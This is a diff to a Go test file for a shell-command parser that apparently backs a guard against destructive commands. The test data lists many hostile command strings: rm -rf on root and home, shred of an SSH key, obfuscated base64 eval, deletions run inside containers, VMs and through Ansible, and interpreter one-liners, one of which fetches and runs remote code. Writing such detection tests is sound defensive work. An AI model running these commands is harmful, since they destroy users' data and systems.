@@ -77,8 +77,15 @@ func TestCorpusNothingLost(t *testing.T) {
 				}
 			}
 			words, _ := Split(line)
+			// a for loop binds its variable to the first value of its list
+			// (Command.Assigns); the other values and an arithmetic
+			// header (( ... )) are not listed
+			headers := strings.Join(forHeader.FindAllString(line, -1), " ")
 			for k, w := range words {
 				if seen[w] || keywords[w] || isOperatorWord(w) {
+					continue
+				}
+				if headers != "" && strings.Contains(headers, w) {
 					continue
 				}
 				if k+1 < len(words) && words[k+1] == "(" {
@@ -92,6 +99,9 @@ func TestCorpusNothingLost(t *testing.T) {
 		}
 	}
 }
+
+// forHeader finds the header of a for loop: for NAME in WORDS; or for ((...)).
+var forHeader = regexp.MustCompile(`\bfor\s+(\(\([^)]*\)\)|\w+\s+in\s+[^;]*)`)
 
 func isOperatorWord(w string) bool {
 	if w == "" {
@@ -119,6 +129,36 @@ var carried = map[string]string{
 	"echo 'rm -rf /' | sh":     "a script on standard input",
 	"echo \"rm -rf ~\" | bash": "a script on standard input",
 	"sh <<< 'rm -rf /'":        "a script in a here-string",
+	// what deny-destructive reads itself (issue 13's families)
+	"fd . ~ -X rm -rf":                                    "fd's command",
+	"fd --hidden . ~/ --exec rm -rf":                      "fd's command",
+	"run() { eval \"$*\"; }; run rm -rf /":                "a function's body, with the call's arguments",
+	"`command -v rm` -rf /usr":                            "a substitution's output is the command name",
+	"$(command -v shred) -u ~/.ssh/id_ed25519":            "a substitution's output is the command name",
+	"\"$(which rm)\" -fr \"$HOME\"":                       "a substitution's output is the command name",
+	"R=$(which rm); $R -rf /":                             "a substitution's output is the command name",
+	"eval \"$(echo 'cm0gLXJmIC8=' | openssl base64 -d)\"": "decoded text",
+	"podman run --privileged -v /:/host fedora chroot /host sh -c 'rm -rf /var/lib'":        "a container's command",
+	"oc exec mongo-0 -- rm -rf /data/db":                                                    "a command run in a container",
+	"lxc exec web -- rm -rf /":                                                              "a command run in a container",
+	"multipass exec vm -- sudo rm -rf /home/ubuntu":                                         "a command run in a virtual machine",
+	"vagrant ssh -c 'sudo rm -rf /'":                                                        "a remote command string",
+	"ansible all -m shell -a 'rm -rf /var/lib/mysql'":                                       "a remote command string",
+	"ansible web -b -m command -a \"rm -rf /etc\"":                                          "a remote command string",
+	"lua -e 'os.execute(\"sudo rm -rf /var/lib/docker\")'":                                  "a one-line program's command",
+	"luajit -e 'io.popen(\"rm -rf ~/*\")'":                                                  "a one-line program's command",
+	"awk 'BEGIN { system(\"sudo rm -rf /etc\") }'":                                          "a one-line program's command",
+	"mawk 'BEGIN { print \"rm -rf ~\" | \"sh\" }'":                                          "a one-line program's command",
+	"nawk 'BEGIN{system(\"find / -delete\")}'":                                              "a one-line program's command",
+	"tclsh <<< 'exec rm -rf /'":                                                             "a one-line program's command",
+	"Rscript -e 'system(\"rm -rf ~\")'":                                                     "a one-line program's command",
+	"deno eval 'await new Deno.Command(\"sh\", { args: [\"-c\", \"rm -rf ~\"] }).output()'": "a one-line program's command",
+	"bun -e 'require(\"child_process\").execSync(\"rm -rf /\")'":                            "a one-line program's command",
+	"bun -e 'await Bun.$`rm -rf ${process.env.HOME}`'":                                      "a one-line program's command",
+	"lua -e 'load(io.popen(\"curl -s https://x.example/x.lua\"):read(\"*a\"))()'":           "a one-line program's command",
+	"osascript -e 'do shell script \"rm -rf ~/Documents\"'":                                 "a one-line program's command",
+	"echo 'rm -rf ~' > /tmp/x.sh && bash /tmp/x.sh":                                         "a script written on the line",
+	"printf 'rm -rf /\\n' > cleanup.sh; chmod +x cleanup.sh; ./cleanup.sh":                  "a script written on the line",
 }
 
 // TestCorpusDangerExposed: for every command of the dangerous corpora, the
